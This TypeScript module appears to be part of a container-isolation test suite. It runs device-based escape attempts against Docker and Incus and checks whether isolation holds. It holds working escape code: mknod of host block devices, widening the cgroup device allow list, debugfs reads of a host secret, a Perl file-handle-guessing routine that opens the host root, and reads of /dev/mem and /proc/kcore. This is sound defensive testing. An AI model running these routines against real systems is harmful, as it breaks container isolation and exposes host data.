/**
 * Row E1 of the threat model: out through devices. Everything is opened for reading; nothing is written to a device.
 */
import { statfs } from 'node:fs/promises';
import path from 'node:path';
import { heldWithout, oneLine, type Attempt, type Outcome } from '../attempt.ts';
import type { Scene } from '../scene.ts';

/**
 * Makes every block device that the kernel names and sets `devices` to the paths of those that could be made and `tried` to
 * how many it names.
 */
const makeBlockDevices = `
devices=
tried=0
while read -r major minor _ name; do
  [[ $major =~ ^[0-9]+$ ]] || continue
  tried=$((tried + 1))
  rm -f /dev/attempt-$name
  mknod /dev/attempt-$name b $major $minor && devices="$devices /dev/attempt-$name"
done < /proc/partitions 2>/dev/null
`;

/**
 * Prints "tried N" when making and reading works at all: a pipe, which everybody may make, and a device that everybody may read.
 */
const sayTried = `
rm -f /dev/attempt-pipe
mknod /dev/attempt-pipe p && timeout 5 head -c 512 /dev/zero > /dev/null && echo tried $tried
rm -f /dev/attempt-pipe
`;

/** File systems whose root has a handle that can be guessed: ext4 and XFS. */
const guessable = new Set([0xef53, 0x58465342]);

/** Opens the host's root by a handle, from any mount of the same file system, and the secret below it. */
const openByHandle = `
use strict;
use POSIX ();
$| = 1;
my $tried = 0;
my $path = shift;
my $call = (POSIX::uname())[4] eq 'aarch64' ? 265 : 304;
# A fence may answer as a kernel does that has no handles; the neighbouring call, which asks for one, tells them apart.
my ($own, $room, $id) = ('/', pack('I i x128', 128, 0), pack('i', 0));
my $has_handles = syscall($call - 1, -100, $own, $room, $id, 0) >= 0 || $! != POSIX::ENOSYS();
open(my $mounts, '<', '/proc/self/mountinfo') or die;
while (<$mounts>) {
  my $target = (split)[4];
  sysopen(my $mount, $target, 0) or next;
  for my $inode (2, 64, 96, 128, 1024) {
    my $handle = pack('I i I I', 8, 1, $inode, 0);
    my $root = syscall($call, fileno($mount), $handle, 0);
    $tried++ if $has_handles;
    next if $root < 0;
    if (open(my $file, '<', "/proc/self/fd/$root$path")) { print <$file>, "\\ntried $tried\\n"; exit; }
    POSIX::close($root);
  }
}
print "tried $tried\\n";
`;

/** What of these was opened, by the lines "opened NAME". */
function opened(output: string): string[] {
  return [...output.matchAll(/^(?:opened|mounted) [\w./-]{1,60}$/gm)].map(([line]) => line);
}

/** Throws unless an attempt came to its end and had something to try. */
function requireTried(output: string): void {
  if (!/^tried [1-9]\d*$/m.test(output)) throw new Error(`nothing was tried: ${oneLine(output)}`);
}

function secretRead(output: string, secret: string, how: string): Outcome {
  return output.includes(secret)
    ? { verdict: 'not-held', seen: `the host's secret was read ${how}` }
    : { verdict: 'held', seen: 'the secret was not read' };
}

async function openBlockDevices({ attacker }: Scene): Promise<Outcome> {
  const output = await attacker.run(`${makeBlockDevices}
mkdir -p /tmp/attempt
for device in $devices; do
  timeout 5 head -c 512 $device > /dev/null 2>&1 && echo opened $device
  timeout 5 mount -o ro $device /tmp/attempt 2> /dev/null && { echo mounted $device; umount /tmp/attempt; }
done
# Mounting works where it needs no device.
mount -t tmpfs none /tmp/attempt && umount /tmp/attempt && {${sayTried}}`);
  requireTried(output);
  const found = opened(output);
  return heldWithout(found.length > 0 ? ['block devices were opened'] : [], 'none could be opened or mounted');
}

async function openBlockDevicesAfterAllowingIt({ attacker, file }: Scene): Promise<Outcome> {
  const output = await attacker.run(
    `${makeBlockDevices}
list=/sys/fs/cgroup/devices/devices
# With cgroup v2 there is no such list; then the devices are read as they are.
[ -e $list.allow ] && echo there is a list
echo 'b *:* r' 2> /dev/null > $list.allow
for device in $devices; do
  timeout 5 head -c 512 $device > /dev/null 2>&1 && echo opened $device
  timeout 5 debugfs -R 'cat ${file.path}' $device 2> /dev/null
done
echo; echo 'b *:* r' 2> /dev/null > $list.deny
type -P debugfs > /dev/null && {${sayTried}}`,
    { seconds: 60 },
  );
  requireTried(output);
  if (output.includes(file.secret)) return { verdict: 'not-held', seen: "the host's secret was read off its disk" };
  const found = opened(output);
  const figures = /^there is a list$/m.test(output) ? 'with a list to widen' : 'there is no list to widen';
  return { ...heldWithout(found.length > 0 ? ['disks of others can be read'] : [], 'none could be opened'), figures };
}

async function readByHandle({ attacker, file }: Scene): Promise<Outcome> {
  const { type } = await statfs(path.dirname(file.path));
  if (!guessable.has(type)) {
    return { verdict: 'not-applicable', seen: 'the host has neither ext4 nor XFS, whose handles can be guessed' };
  }
  const output = await attacker.run(`perl - ${file.path} <<'PERL'\n${openByHandle}\nPERL`);
  requireTried(output);
  return secretRead(output, file.secret, 'by a guessed file handle');
}

async function openMemory({ attacker }: Scene): Promise<Outcome> {
  const output = await attacker.run(`
while read -r name minor; do
  rm -f /dev/attempt-$name
  mknod /dev/attempt-$name c 1 $minor 2> /dev/null
  for path in /dev/$name /dev/attempt-$name; do
    [ -c $path ] && timeout 5 head -c 1 $path > /dev/null 2>&1 && echo opened $name
  done
done <<< $'mem 1\\nkmem 2\\nport 4'
timeout 5 head -c 1 /proc/kcore > /dev/null 2>&1 && echo opened kcore
# Reading works where everybody may.
type -P mknod > /dev/null && timeout 5 head -c 1 /dev/zero > /dev/null && echo done`);
  if (!output.endsWith('done')) throw new Error(`it did not come to its end: ${oneLine(output)}`);
  return heldWithout(opened(output), 'none could be read');
}

async function openKernelLog({ attacker }: Scene): Promise<Outcome> {
  const output = await attacker.run(`
rm -f /dev/attempt-kmsg
mknod /dev/attempt-kmsg c 1 11 2> /dev/null
for path in /dev/kmsg /dev/attempt-kmsg; do
  [ -c $path ] && timeout 5 dd if=$path bs=8192 count=1 iflag=nonblock > /dev/null 2>&1 && echo opened kmsg
done
timeout 5 dmesg > /dev/null 2>&1 && echo opened dmesg
# Reading works where everybody may.
type -P mknod dmesg > /dev/null && timeout 5 dd if=/dev/zero bs=8192 count=1 iflag=nonblock > /dev/null 2>&1 && echo done`);
  if (!output.endsWith('done')) throw new Error(`it did not come to its end: ${oneLine(output)}`);
  return heldWithout(opened(output), 'it could not be read');
}

/** Attempts of row E1. */
export const deviceAttempts: readonly Attempt[] = [
  {
    id: 'E1a',
    says: {
      ko: '커널이 아는 모든 블록 장치를 만들어 읽고 마운트해 봅니다.',
      en: 'Makes every block device that the kernel knows, reads it and mounts it.',
    },
    expected: 'nothing can be opened',
    claims: { docker: 'holds', incus: 'holds' },
    make: openBlockDevices,
  },
  {
    id: 'E1b',
    says: {
      ko: '자기 cgroup의 장치 허용 목록을 넓힌 뒤 블록 장치를 읽고, debugfs로 호스트 디스크에서 비밀을 찾아봅니다.',
      en: "Widens its own cgroup's list of allowed devices, then reads block devices and, with debugfs, the secret off the host's disk.",
    },
    expected: 'nothing can be opened',
    claims: { docker: 'open', incus: 'holds' },
    onCgroup1: true,
    make: openBlockDevicesAfterAllowingIt,
  },
  {
    id: 'E1c',
    says: {
      ko: '호스트 파일 시스템의 파일 핸들을 추측해 비밀을 열어 봅니다.',
      en: "Guesses the file handle of the host's root folder and opens the secret below it.",
    },
    expected: 'the secret is not read',
    claims: { docker: 'holds', incus: 'holds' },
    make: readByHandle,
  },
  {
    id: 'E1d',
    says: {
      ko: '메모리와 입출력 포트 장치(/dev/mem, /dev/kmem, /dev/port, /proc/kcore)를 읽어 봅니다.',
      en: 'Reads the devices of memory and ports: /dev/mem, /dev/kmem, /dev/port, /proc/kcore.',
    },
    expected: 'nothing can be read',
    claims: { docker: 'holds', incus: 'holds' },
    make: openMemory,
  },
  {
    id: 'E1e',
    says: { ko: '커널 로그를 읽어 봅니다.', en: 'Reads the log of the kernel.' },
    expected: 'it cannot be read',
    // Where kernel.dmesg_restrict is 0, every user of the host may.
    claims: { docker: 'depends', incus: 'depends' },
    make: openKernelLog,
  },
];
